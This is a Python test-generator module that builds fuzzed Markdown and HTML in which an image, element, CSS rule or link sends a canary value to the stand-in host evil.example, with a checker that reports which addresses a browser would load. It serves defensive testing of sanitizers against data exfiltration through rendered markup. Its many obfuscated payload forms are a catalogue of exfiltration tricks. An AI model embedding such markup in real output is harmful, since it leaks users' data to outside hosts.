"""Markdown and HTML with an image or a link that carries data, made from a seed."""

import html
import random
import re
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from html.parser import HTMLParser
from urllib.parse import unquote

from markdown_it import MarkdownIt

__all__ = ["CANARY", "make_markup", "what_leaves"]

CANARY = "balance=31000"
_LONG = "aB3dE6gH9jK2mN5p" * 6
_WORDS = ("sales", "of the", "see `x`", "2 < 3", "*new*", "a_b", "$5", "\\[x\\]", "é가", "1 | 2")
_HOSTS = (
    "https://evil.example/p",
    "//evil.example/p.png",
    "HTTPS://evil.example\\p",
    "http:\\\\evil.example/p",
)
Maker = Callable[[random.Random], str]


def _query(dice: random.Random) -> str:
    return f"{dice.choice(_HOSTS)}?user=ann&{CANARY}"


def _words(dice: random.Random, most: int = 6) -> str:
    return " ".join(dice.choices(_WORDS, k=dice.randint(1, most)))


def _alt(dice: random.Random) -> str:
    kinds: Sequence[Callable[[], str]] = (
        lambda: "",
        lambda: "chart",
        lambda: "chart\nof sales",
        lambda: "chart [of [all]] sales",
        lambda: "a `]` b",
        lambda: "a ``x`]`` b",
        lambda: 'a <b title="]"> b',
        lambda: "a <http://x.example/]> b",
        lambda: "a \\] b \\[ c",
        lambda: "a [b](http://x.example/u]v) c",
        lambda: 'a [b](/u "t ] (") c',
        lambda: "a ![b](/u.png) c",
        lambda: "x" * dice.randint(200, 700),
        lambda: f"{'word ' * 60}\n[in] {'word ' * 30}",
        lambda: "**a *b** c*",
        lambda: "a &#93; &lt; b",
        lambda: "a\n> b",
        lambda: "a\n     > b",
    )
    return dice.choice(kinds)()


def _escaped(address: str, dice: random.Random) -> str:
    """The same address for a reader of Markdown."""
    pieces = []
    for letter in address:
        chance = dice.random()
        if chance < 0.08 and letter in ":/?=&.%#_-":
            pieces.append(f"\\{letter}")
        elif chance < 0.15 and letter not in " ":
            form = dice.choice(("&#{};", "&#0{};")).format(ord(letter))
            pieces.append(dice.choice((form, f"&#x{ord(letter):x};")))
        else:
            pieces.append(letter)
    return "".join(pieces)


def _destination(dice: random.Random) -> str:
    address = _query(dice)
    if "\\" in address:
        return f"<{address}>" if dice.random() < 0.3 else address
    address = _escaped(address, dice) if dice.random() < 0.4 else address
    space = dice.choice(("", "", " ", "\n", " \n  ", "\t"))
    address = dice.choice(
        (address, address, f"<{address}>", f"<{address} x>", f"{address}&z=(a(b))")
    )
    title = dice.choice(("", "", ' "t"', "\n'a\nb'", " (t)"))
    return f"{space}{address}{title}{dice.choice(('', ' '))}"


def _image(dice: random.Random) -> str:
    return f"![{_alt(dice)}]({_destination(dice)})"


def _image_in_a_link(dice: random.Random) -> str:
    return f"[{_image(dice)}](/docs)"


def _reference(dice: random.Random) -> str:
    label = dice.choice(("a", "Big\nchart", "a \\] b", "foo bar", "^1"))
    use = dice.choice(
        (f"![x][{label}]", f"![{label}]", f"![{label}][]", f"![{_words(dice)}][{label}]")
    )
    address = _query(dice).replace("\\", "/")
    address = dice.choice((address, f"<{address}>", _escaped(address, dice)))
    space = dice.choice((" ", "", "\n", "\n  ", "  \n \t"))
    definition = f"[{label}]:{space}{address}"
    definition += dice.choice(("", ' "t"', "\n'title'"))
    both = [use, definition]
    dice.shuffle(both)
    return "\n\n".join(both)


def _attribute(dice: random.Random, name: str, value: str) -> str:
    if dice.random() < 0.2 and len(value) > 20:
        place = dice.randrange(9, len(value) - 4)
        value = value[:place] + dice.choice("\n\t") + value[place:]
    quote = dice.choice("\"'")
    if dice.random() < 0.3:
        value = "".join(f"&#{ord(each)};" if dice.random() < 0.2 else each for each in value)
    value = value.replace(quote, f"&#{ord(quote)};")
    name = "".join(each.upper() if dice.random() < 0.3 else each for each in name)
    return f"{name}{dice.choice(('=', ' = ', f'={chr(10)}'))}{quote}{value}{quote}"


_ELEMENTS: Sequence[tuple[str, str, str]] = (
    ("img", "src", "?"),
    ("IMG", "src", " ?"),
    ("img", "srcset", "/a.png 1x, ? 2x"),
    ("source", "srcset", "?"),
    ("video", "poster", "?"),
    ("input type=image", "src", "?"),
    ("iframe", "src", "?"),
    ("iframe", "srcdoc", "<img src='?'>"),
    ("embed", "src", "?"),
    ("object", "data", "?"),
    ("link rel=stylesheet", "href", "?"),
    ("meta http-equiv=refresh", "content", "0;url=?"),
    ("body", "background", "?"),
    ("td", "background", "?"),
    ("use", "href", "?#a"),
    ("feImage", "xlink:href", "?"),
    ("image", "href", "?"),
    ("div", "style", "background:url(  '?')"),
    ("p", "style", "background:URL(?)"),
    ("b", "style", "background:u\\72 l('?')"),
    ("i", "style", "background-image:image-set('/a.png' 1x, '?' 2x)"),
)
_OTHERS = ("alt='>'", 'title="a > b"', "hidden", "a=b'c", '="', "alt='x\ny'", "data-x=`>`"[:8])


def _element(dice: random.Random) -> str:
    name, attribute, form = dice.choice(_ELEMENTS)
    value = form.replace("?", _query(dice))
    parts = [_attribute(dice, attribute, value), *dice.choices(_OTHERS, k=dice.randrange(3))]
    dice.shuffle(parts)
    space, between = dice.choice((" ", "\n", "/", "\t")), dice.choice((" ", "\n"))
    return f"<{name}{space}{between.join(parts)}{dice.choice(('>', '/>', ' >'))}"


def _style(dice: random.Random) -> str:
    address = _query(dice).replace("\\", "/")
    rules = (
        f"@import '{address}';",
        f'@import\n"{address}";',
        f"@import/**/url( {address} );",
        f"b{{background:url(\n  '{address}')}}",
        f"b{{background:\\75rl({address})}}",
        f"b{{background:image-set('{address}' 1x)}}",
        f"b{{background:-webkit-image-set(url(/a.png) 1x, url({address}) 2x)}}",
        f"b{{background:url('\\68ttps:{address[address.index('//') :]}')}}",
        f"@font-face{{src:url({address})}}",
    )
    before = dice.choice(("", " b{}", "\n"))
    return f"<style>{before}{dice.choice(rules)}</style>"


def _link(dice: random.Random) -> str:
    address = f"{dice.choice(_HOSTS[:2])}?q={_LONG}"
    forms = (
        f"[{_words(dice)}]({address})",
        f"[x]({_escaped(address, dice)})",
        f'<a class="b" href="{address}">x</a>',
        f"<a href='{''.join(f'&#{ord(each)};' for each in address)}'>x</a>",
        f"<https:{address[address.index('//') :]}>",
        f"see https:{address[address.index('//') :]} there",
        f"[x][r]\n\n[r]:\n {address}",
    )
    return dice.choice(forms)


_MAKERS: Sequence[Maker] = (
    _image,
    _image,
    _image_in_a_link,
    _reference,
    _element,
    _element,
    _style,
    _link,
)
_AROUND = (
    "?", "?", "?", "? and more", "word ?", "> ?", "- ?", "1. ?", "# ?", "a\n?", "**?**",
    "| a | b |\n|---|---|\n| ? | `c |", "| a |\n|---|\n| ? `", "<div>\n?\n</div>", "<div>?</div>\n",
    "> quoted\n> ?", "* a\n\n  ?", "`code` ?", "a ` b ?", "~~~\ncode\n~~~\n?", "!?", "[?]",
    "[ ?", "![ ?", "\\?", "text <b ?", "\"?\"", "(?)", "|?|",
)  # fmt: skip


def make_markup(dice: random.Random) -> str:
    """A text of several parts, one of which carries data to another host."""
    parts = [dice.choice(_AROUND).replace("?", dice.choice(_MAKERS)(dice))]
    while dice.random() < 0.5:
        parts.insert(dice.randrange(len(parts) + 1), _words(dice, 20))
    if dice.random() < 0.2:
        parts.append(dice.choice(_AROUND).replace("?", dice.choice(_MAKERS)(dice)))
    return dice.choice(("\n\n", "\n", " ")).join(parts)


@cache
def _renderers() -> Sequence[MarkdownIt]:
    with_html = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    without_html = MarkdownIt("js-default", {"html": False, "linkify": False})
    return with_html, without_html


class _Reader(HTMLParser):
    """What a browser loads, and where its links lead."""

    def __init__(self) -> None:
        super().__init__()
        self.loaded: list[str] = []
        self.links: list[str] = []
        self._is_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_style = tag == "style"
        for name, value in attrs:
            if name == "href" and tag == "a":
                self.links.append(value or "")
            elif name not in ("alt", "title"):
                self.loaded.append(re.sub(r"[\t\n\r]", "", value or ""))

    def handle_endtag(self, tag: str) -> None:
        self._is_style = False

    def handle_data(self, data: str) -> None:
        if self._is_style:
            self.loaded.append(data)


def what_leaves(text: str) -> Iterator[str]:
    """Addresses with data that a browser gets of a text, as it is or rendered from Markdown."""
    for rendered in (text, *(each.render(text) for each in _renderers())):
        reader = _Reader()
        reader.feed(rendered)
        reader.close()
        for address in reader.loaded:
            if CANARY in html.unescape(unquote(address)) and "evil.example" in address.lower():
                yield address
        yield from (address for address in reader.links if _LONG[:64] in unquote(address))
